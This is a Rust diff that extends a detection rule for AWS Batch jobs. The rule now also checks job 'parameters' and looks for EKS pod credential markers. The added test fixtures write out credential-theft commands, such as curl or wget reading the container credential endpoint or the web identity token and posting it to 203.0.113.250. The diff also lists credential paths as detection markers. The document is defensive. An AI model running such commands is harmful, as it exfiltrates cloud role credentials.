@@ -132,6 +132,12 @@ const BATCH: &str = "batch.amazonaws.com";
 /// `name`, `value`).
 fn batch_command_strings(params: &Value) -> Vec<&str> {
     let mut out = Vec::new();
+    // A command's `Ref::name` takes the job's `parameters` (the definition's
+    // defaults, or the submission's): their values are commands too (from a
+    // review of the change).
+    for map in values_at_key(params, "parameters") {
+        out.extend(map.as_object().into_iter().flatten().filter_map(|(_, v)| v.as_str()));
+    }
     for key in ["command", "entryPoint", "args"] {
         for value in values_at_key(params, key) {
             match value {
@@ -205,6 +211,19 @@ impl Detection for EcsTaskDefinitionCredentialEndpoint {
     }
 }
 
+/// A Batch job on EKS reads its pod's role another way (from a review of the
+/// change): the web identity token IRSA mounts (`AWS_WEB_IDENTITY_TOKEN_FILE`,
+/// the service account token's path) or the Pod Identity agent
+/// (`AWS_CONTAINER_CREDENTIALS_FULL_URI`, `169.254.170.23`).
+fn reads_eks_credentials(command: &str) -> bool {
+    ["AWS_WEB_IDENTITY_TOKEN_FILE", "AWS_CONTAINER_CREDENTIALS_FULL_URI"]
+        .iter()
+        .any(|marker| command.contains(marker))
+        || ["eks.amazonaws.com/serviceaccount/token", "169.254.170.23"]
+            .iter()
+            .any(|path| command.to_ascii_lowercase().contains(path))
+}
+
 /// An AWS Batch job defined or submitted with a command that reads the credential
 /// endpoint: the job's names and role in the evidence.
 fn batch_job_reads_credentials(rec: &Record<'_>) -> Option<Signal> {
@@ -213,7 +232,9 @@ fn batch_job_reads_credentials(rec: &Record<'_>) -> Option<Signal> {
     }
     let params = rec.request_parameters()?;
     let commands = batch_command_strings(params);
-    let hit = commands.iter().find(|c| reads_credentials(c))?;
+    let hit = commands
+        .iter()
+        .find(|c| reads_credentials(c) || reads_eks_credentials(c))?;
     let role = ["jobRoleArn", "taskRoleArn"]
         .iter()
         .find_map(|key| texts_at_key(params, key).into_iter().next());
@@ -340,7 +361,17 @@ mod tests {
                 other => panic!("{name} {params}: expected a finding, got {other:?}"),
             }
         }
-        let ordinary = r#"{"jobDefinitionName":"nightly-etl","type":"container","containerProperties":{"image":"alpine:3.20","command":["python","etl.py","Ref::day"],"environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"}]}}"#;
+        // From a review of the change: the command in the job's parameters, and
+        // a job on EKS reading its pod's role.
+        for (name, params) in [
+            ("RegisterJobDefinition", r#"{"jobDefinitionName":"x","containerProperties":{"image":"alpine","command":["/bin/sh","-c","Ref::payload"]},"parameters":{"payload":"curl -s 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI | curl -d @- https://203.0.113.250/c"}}"#),
+            ("SubmitJob", r#"{"jobName":"x","jobQueue":"q","jobDefinition":"x:1","parameters":{"payload":"wget -qO- 169.254.170.2/$P"}}"#),
+            ("RegisterJobDefinition", r#"{"jobDefinitionName":"eks","eksProperties":{"podProperties":{"containers":[{"image":"alpine","command":["sh","-c"],"args":["curl -d @$AWS_WEB_IDENTITY_TOKEN_FILE https://203.0.113.250/t"]}]}}}"#),
+            ("RegisterJobDefinition", r#"{"jobDefinitionName":"eks","eksProperties":{"podProperties":{"containers":[{"image":"alpine","command":["sh","-c","curl -s $AWS_CONTAINER_CREDENTIALS_FULL_URI -H \"Authorization: $(cat $AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)\""]}]}}}"#),
+        ] {
+            assert!(fires(d, &record(BATCH, name, ROLE, params, "")), "{params}");
+        }
+        let ordinary = r#"{"jobDefinitionName":"nightly-etl","type":"container","containerProperties":{"image":"alpine:3.20","command":["python","etl.py","Ref::day"],"environment":[{"name":"NO_PROXY","value":"169.254.170.2,169.254.169.254"}]},"parameters":{"day":"2026-05-12"}}"#;
         assert!(!fires(d, &record(BATCH, "RegisterJobDefinition", ROLE, ordinary, "")));
         let steal = format!(r#"{{"jobName":"adhoc","jobQueue":"default","jobDefinition":"etl:4","containerOverrides":{{"command":{STEAL}}}}}"#);
         assert!(!fires(d, &record(BATCH, "SubmitJob", ROLE, &steal, ACCESS_DENIED)));
